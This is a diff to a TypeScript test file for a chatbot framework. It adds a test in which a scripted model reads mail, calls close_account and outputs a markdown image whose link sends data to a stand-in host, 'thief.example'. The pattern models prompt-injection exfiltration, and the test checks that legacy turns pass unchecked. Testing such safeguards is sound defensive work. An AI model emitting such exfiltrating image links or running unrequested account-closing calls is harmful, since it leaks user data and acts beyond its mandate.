@@ -3,6 +3,8 @@
 import type { Json, JsonObject } from '@parley/contract/base/json'
 import { describe, expect, it } from 'vitest'
 import { BotBuilder, say } from '../../../test-support/bot-builder'
+import { Conversation } from '../../../test-support/conversation'
+import { simplePorts } from '../../../test-support/simple-ports'
 import { freshTurn, memoryJson, newMemory, readMemory } from '../memory'
 import { hasRead, originsOf } from '../calls/origin'
 import { toolName } from '../settings'
@@ -128,5 +130,17 @@ describe('an answer as large as it may be', () => {
       expect(chat.of('failed')).toEqual([])
     }
     expect(JSON.stringify(chat.session).length).toBeLessThan(400_000)
+  })
+})
+
+describe('a turn from before such things were looked at', () => {
+  it('is taken as it was: pictures are shown, and calls that take no value are not asked about', async () => {
+    const shown = '![](https://thief.example/?q=4711)'
+    const { model } = scripted([[call('read_mail')], [call('close_account')], shown])
+    const document = bank([close], 'Nothing new.').document()
+    const ports = { ...simplePorts(new Conversation(document).bot, { model }), checks: 2 }
+    const chat = new Conversation(document, {}, ports)
+    expect(await chat.say('bank')).toEqual([shown])
+    expect(chat.of('tool-called').map(({ outcome }) => outcome)).toEqual(['done', 'done'])
   })
 })
